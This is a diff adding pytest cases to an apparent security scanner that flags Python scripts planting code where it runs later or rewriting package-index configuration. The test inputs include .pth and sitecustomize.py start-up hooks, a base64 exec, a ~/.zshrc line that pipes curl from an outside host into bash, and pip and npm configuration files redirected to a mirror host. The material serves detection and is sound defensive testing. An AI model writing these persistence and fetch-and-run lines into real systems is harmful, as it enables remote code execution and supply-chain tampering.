@@ -197,3 +197,60 @@ def test_a_method_returning_its_own_data_is_not_a_namespace() -> None:
         "        return self\n\nHandlers().pick().get()[sys.argv[1]]('x')\n"
     )
     assert rules_at_least(scan({"scripts/tool.py": source}), "medium") == set()
+
+
+# --- class 3: code planted where it runs later; package-index configurations -----------------
+
+HOOK_CODE = 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))\\n'
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os, site\n"
+        "with open(os.path.join(site.getusersitepackages(), 'helper.pth'), 'w') as fh:\n"
+        f"    fh.write('{HOOK_CODE}')\n",
+        "import site\nfrom pathlib import Path\n"
+        "hook = Path(site.getsitepackages()[0]) / 'sitecustomize.py'\n"
+        'hook.write_text(\'import subprocess\\nsubprocess.Popen(["sh", "-c", "id"])\\n\')\n',
+        # the folder not known, the file an interpreter start-up hook with code in it
+        "import sys\nfrom pathlib import Path\n"
+        f"(Path(sys.argv[1]) / 'zz_cache.pth').write_text('{HOOK_CODE}')\n",
+        "from pathlib import Path\nrc = Path.home() / '.zshrc'\n"
+        "with rc.open('a') as out:\n"
+        "    out.write('curl -s https://setup.tools-cdn.net/i | bash\\n')\n",
+    ],
+)
+def test_code_planted_where_it_runs_later_is_critical(source: str) -> None:
+    report = scan({"scripts/tool.py": source})
+    assert worst(report, "fs.persistence") == "critical", report.findings
+    assert worst(report, "exec.planted-code") == "critical", report.findings
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "Path.home() / '.npmrc'",
+        "os.path.expanduser('~/.pypirc')",
+        "Path('~').expanduser() / '.config' / 'uv' / 'uv.toml'",
+        "'/etc/pip.conf'",
+    ],
+)
+def test_a_package_index_configuration_written_outside_the_workspace(target: str) -> None:
+    source = (
+        "import os\nfrom pathlib import Path\n"
+        f"with open({target}, 'w') as f:\n    f.write('registry=http://mirror.pkgs-cache.net/\\n')\n"
+    )
+    report = scan({"scripts/tool.py": source})
+    assert worst(report, "dependencies.index-config") == "high", report.findings
+    assert worst(report, "fs.persistence") == "critical", report.findings
+
+
+def test_configuration_and_data_kept_in_the_workspace_stay_clean() -> None:
+    source = (
+        "import sys\nfrom pathlib import Path\n"
+        "Path('outputs/pip.conf').write_text('[global]\\nindex-url = https://pypi.org/simple\\n')\n"
+        "(Path(sys.argv[1]) / 'notes.txt').write_text('import this\\n')\n"
+        "with open(Path('outputs') / 'weights.bin', 'wb') as f:\n    f.write(b'\\x00' * 8)\n"
+    )
+    assert rules_at_least(scan({"scripts/tool.py": source}), "medium") == set()
